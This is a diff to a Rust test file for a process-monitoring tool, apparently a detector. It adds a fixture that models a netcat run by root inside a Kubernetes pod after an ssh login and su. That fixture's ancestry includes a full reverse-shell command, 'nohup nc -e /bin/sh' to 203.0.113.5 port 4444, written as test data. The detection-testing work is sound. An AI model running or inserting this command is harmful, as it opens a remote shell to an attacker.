@@ -19,11 +19,13 @@ use execwatch::followup::record::{Alerted, FollowUp, Occasion};
 use execwatch::followup::sockets::{Protocol, Socket};
 use execwatch::identity::index::Installed;
 use execwatch::identity::{By, Identity};
-use execwatch::process::details::{Login, Namespaces};
+use execwatch::process::container::Named;
+use execwatch::process::details::{Login, Namespaces, UNSET};
 use execwatch::process::exec::{Certainty, Exec, Image};
 use execwatch::process::file::FileFacts;
 use execwatch::process::names::{Accounts, Names};
-use execwatch::process::relatives::NoProcesses;
+use execwatch::process::place::Place;
+use execwatch::process::relatives::{Ancestors, Learnt, Processes, Relative};
 use execwatch::rules::load::{Places, load};
 use execwatch::rules::model::Severity;
 use execwatch::rules::ruleset::RuleSet;
@@ -88,6 +90,66 @@ const HOST_NAMESPACES: Namespaces = Namespaces {
 
 fn image(exe: &str, argv: &[impl AsRef<[u8]>]) -> Image {
     Image::new(Some(exe.as_bytes()), Some(argv))
+}
+
+/// Containers in the place of a host's processes.
+#[derive(Debug)]
+struct Told;
+
+impl Processes for Told {
+    fn find(&self, _: u32, _: Option<u64>) -> Option<Relative> {
+        None
+    }
+
+    fn container(&self, place: &Place) -> Option<Arc<Named>> {
+        let text = |text: &str| Some(text.to_owned());
+        place.pod_uid.as_ref().map(|_| {
+            Arc::new(Named {
+                name: text("toolbox"),
+                image: text("registry.example/tools/box:3.1"),
+                pod_name: text("toolbox-6f7c"),
+                pod_namespace: text("ops"),
+            })
+        })
+    }
+}
+
+/// Netcat of somebody who came by ssh into a pod and became root there; the nearer processes have ended.
+fn far_away() -> Exec {
+    let mut exec = netcat();
+    let details = &mut exec.details;
+    details.uids = Some([0; 4]);
+    details.ppid = Some(4241);
+    details.adopter = Some(1);
+    details.ssh_client = Some("[2001:db8::7]:50022".parse().unwrap());
+    details.set_cgroup(
+        b"0::/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod01234567_89ab_cdef_0123_456789abcdef.slice/\
+          cri-containerd-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope\n",
+    );
+    let script = image("/usr/bin/bash", &["bash", "/tmp/.x/run.sh"]);
+    details.parent = script.clone();
+    let ancestor = |pid: u32, image: Image, uid: u32, learnt: Learnt, ended: bool| Relative {
+        pid,
+        image,
+        learnt,
+        ended,
+        uids: Some([uid, uid, UNSET, UNSET]),
+        start_ticks: Some(8_640_000 - u64::from(4242 - pid)),
+        ..Relative::default()
+    };
+    exec.ancestors = Ancestors {
+        processes: vec![
+            ancestor(4241, script.clone(), 0, Learnt::Inherited, true),
+            ancestor(4240, script, 0, Learnt::Seen, true),
+            ancestor(4200, image("/usr/bin/su", &["su", "-"]), 1000, Learnt::Seen, false),
+            ancestor(4100, image("/usr/bin/bash", &["-bash"]), 1000, Learnt::Seen, false),
+            ancestor(4090, image("/usr/sbin/sshd", &["sshd: ann@notty"]), 1000, Learnt::Inherited, false),
+            ancestor(700, Image::default(), 0, Learnt::Unknown, true),
+        ],
+        complete: false,
+        earlier: vec![image("/usr/bin/nohup", &["nohup", "nc", "-e", "/bin/sh", "203.0.113.5", "4444"])],
+    };
+    exec
 }
 
 /// A web shell's netcat, with everything known.
@@ -217,6 +279,7 @@ fn cases() -> Vec<(&'static str, Exec)> {
         ("hostile", hostile),
         ("long", long),
         ("container", container),
+        ("far-away", far_away()),
         ("copy", copy),
         ("memfd", memfd),
         ("gone", gone),
@@ -251,7 +314,7 @@ fn forms_of_an_alert() {
     let surroundings = Surroundings {
         accounts: Accounts { users: Names::new(folder().join("passwd")), groups: Names::new("/dev/null") },
         namespaces: HOST_NAMESPACES,
-        processes: Box::new(NoProcesses),
+        processes: Box::new(Told),
         files: Arc::default(),
     };
     let mut evaluator = Evaluator::new(Arc::new(rules()));
